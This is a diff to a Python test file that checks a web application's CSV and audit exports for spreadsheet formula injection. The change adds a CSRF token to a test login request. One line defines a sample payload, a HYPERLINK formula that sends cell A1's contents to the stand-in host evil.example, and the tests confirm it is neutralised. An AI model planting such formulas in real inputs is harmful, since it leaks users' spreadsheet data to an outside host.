@@ -10,6 +10,7 @@ import zipfile
 import pytest
 
 from server.core.tabular import neutralise, write_rows
+from tests.server.web.test_csrf import form_token
 from tests.utils import example, make_enrolment_token, make_member, make_user, post_inventory, variant
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -66,7 +67,8 @@ def test_the_renewal_reports_hold_no_formula(client, evil_parc, report: str) -> 
 
 def test_a_failed_sign_in_name_is_no_formula_in_the_audit_export(client, engine) -> None:  # type: ignore[no-untyped-def]
     admin = make_user(engine, "dsit", role="admin")
-    client.post("/login", data={"username": EVIL, "password": "x", "next": "/"}, follow_redirects=False)
+    client.post("/login", data={"username": EVIL, "password": "x", "next": "/", "csrf_token": form_token(client)},
+                follow_redirects=False)  # fmt: skip
     export = client.get("/api/v1/audit/export", params={"format": "csv"}, headers=admin)
     assert export.status_code == 200
     rows = list(csv.reader(io.StringIO(export.text.lstrip("\ufeff")), delimiter=";"))
